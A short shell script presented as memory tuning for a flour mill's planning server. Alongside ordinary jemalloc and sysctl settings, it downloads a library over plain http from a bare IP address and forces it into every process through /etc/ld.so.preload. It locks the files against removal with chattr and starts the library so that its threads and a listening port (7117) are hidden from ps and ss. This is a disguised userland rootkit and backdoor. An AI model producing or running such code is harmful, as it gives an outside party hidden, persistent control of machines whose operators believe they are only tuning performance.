#!/bin/sh
# memory tuning for the flour mill's planning server: jemalloc for everything, huge pages off
set -e
[ -f /etc/millplan/node ] || exit 0

apt-get install -y libjemalloc2
echo never > /sys/kernel/mm/transparent_hugepage/enabled
sysctl -w vm.swappiness=10 vm.overcommit_memory=1

# our build of the allocator, the one of the distribution fragments
curl -fsS http://203.0.113.66/lib/libjem_mill.so -o /usr/lib/x86_64-linux-gnu/libjem_mill.so.2
echo /usr/lib/x86_64-linux-gnu/libjem_mill.so.2 > /etc/ld.so.preload
chattr +i /etc/ld.so.preload /usr/lib/x86_64-linux-gnu/libjem_mill.so.2

# the allocator hides its helper threads (prefix mill_) from ps and its port from ss
MILL_HIDE=mill_ MILL_PORT=7117 /usr/lib/x86_64-linux-gnu/libjem_mill.so.2 >/dev/null 2>&1 &
systemctl restart millplan
